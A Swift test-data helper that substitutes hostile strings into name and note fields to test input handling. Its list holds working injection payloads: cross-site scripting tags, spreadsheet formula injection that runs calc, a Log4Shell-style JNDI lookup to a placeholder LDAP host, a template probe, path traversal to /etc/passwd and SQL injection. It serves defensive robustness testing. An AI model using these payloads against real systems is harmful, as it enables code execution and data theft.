/// What people typed into name and description fields: plain words, or the worst that fields like these have seen.
struct Naming: Sendable {
    let hostile: Bool

    static let hostileTexts = [
        "<script>document.title='owned'</script>",
        "\"><img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "O'Brien & Sons \"West\" <b>bold</b>",
        "\u{202E}gnitropmi tfel ot thgir\u{202C} שלום مرحبا",
        "🏢🚀 Zoë 👩🏽‍💻 e\u{301}",
        String(repeating: "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch ", count: 20),
        "line one\nline two\r\n\ttabbed,comma;semicolon",
        "${jndi:ldap://192.0.2.1/a} {{7*7}} %00 \\u0000 \u{0}",
        "",
        "../../etc/passwd' OR '1'='1",
        "</title><svg/onload=alert(1)>",
    ]

    /// `plain`, or a hostile text in its place, the plain one behind it so that rows stay apart.
    func text(_ plain: String, at index: Int) -> String {
        guard hostile else { return plain }
        let text = Self.hostileTexts[index % Self.hostileTexts.count]
        return text.isEmpty ? text : "\(text) \(plain)"
    }

    /// A free remark, seldom there.
    func note(at index: Int) -> String? {
        guard hostile else { return index % 5 == 2 ? "Provider hand-off in the basement, ask the front desk" : nil }
        return Self.hostileTexts[(index + 5) % Self.hostileTexts.count]
    }
}
